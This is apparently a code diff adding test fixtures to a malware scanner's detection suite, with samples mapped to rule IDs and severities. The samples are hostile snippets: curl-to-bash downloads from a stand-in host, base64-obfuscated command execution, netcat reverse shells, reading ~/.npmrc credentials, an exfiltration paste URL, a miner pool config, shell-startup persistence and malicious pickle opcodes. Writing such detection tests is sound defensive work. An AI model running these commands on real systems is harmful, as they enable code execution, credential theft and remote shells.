@@ -470,6 +470,41 @@ MALICIOUS = [
         "LG-YARA-OBF-001",
         CRITICAL,
     ),
+    (
+        "setup.sh",
+        "curl -s http://x.invalid/i | sudo -u root bash\n",
+        "LG-YARA-DLEXEC-001",
+        CRITICAL,
+    ),
+    ("setup.sh", "curl -s http://x.invalid/i | env X=1 'sh'\n", "LG-YARA-DLEXEC-001", CRITICAL),
+    (
+        "m.py",
+        "import base64, os\nos.system(base64.b64decode('Y3VybA=='))\n",
+        "LG-YARA-OBF-001",
+        CRITICAL,
+    ),
+    (
+        "m.py",
+        "import subprocess\nsubprocess.run(b64decode(CMD), shell=True)\n",
+        "LG-YARA-OBF-001",
+        CRITICAL,
+    ),
+    ("run.sh", "nc.traditional -e /bin/sh 127.0.0.1 4444\n", "LG-YARA-REVSHELL-003", CRITICAL),
+    (
+        "run.sh",
+        "nc 127.0.0.1 4444 | /bin/sh | nc 127.0.0.1 4445\n",
+        "LG-YARA-REVSHELL-003",
+        CRITICAL,
+    ),
+    ("m.py", "t = open(os.path.expanduser('~/.npmrc')).read()\n", "LG-YARA-CRED-001", MEDIUM),
+    ("m.py", "U = 'http://ix.io'\n", "LG-YARA-EXFIL-002", HIGH),
+    (
+        "config.json",
+        '{"donate-level": 1, "pools": [{"url": "pool.x.invalid:3333"}]}',
+        "LG-YARA-MINER-002",
+        HIGH,
+    ),
+    ("run.sh", "echo 'x' >> ~/.config/fish/config.fish\n", "LG-YARA-PERSIST-001", HIGH),
     # the same payloads inside JSON-escaped notebook code are found, capped as prose
     ("demo.ipynb", _notebook("!curl -s http://x.invalid/i | sh\n"), "LG-YARA-DLEXEC-001", LOW),
 ]
@@ -515,7 +550,9 @@ def _stack_global(module: str, name: str, between: bytes = b"\x94") -> bytes:
         (_stack_global("numpy.testing._private.utils", "runstring"), "LG-YARA-PICKLE-002"),
         (b"cpdb\nrun\n(S'x'\ntR.", "LG-YARA-PICKLE-001"),
         (b"crunpy\n_run_module_as_main\n(S'x'\ntR.", "LG-YARA-PICKLE-001"),
-        (b"(S'true'\nios\nsystem\n.", "LG-YARA-PICKLE-001"),  # INST calls what it names
+        (b"(S'true'\nios\nsystem\n.", "LG-YARA-PICKLE-001"),
+        (_stack_global("_posixsubprocess", "fork_exec"), "LG-YARA-PICKLE-002"),
+        (b"cctypes\nCDLL\n(S'x.so'\ntR.", "LG-YARA-PICKLE-001"),  # INST calls what it names
         (b"\x80\x04U\x02osU\x06system\x93.", "LG-YARA-PICKLE-002"),  # SHORT_BINSTRING
         (b"\x80\x04\x8d\x02" + b"\x00" * 7 + b"os\x8c\x06system\x93.", "LG-YARA-PICKLE-002"),
     ],
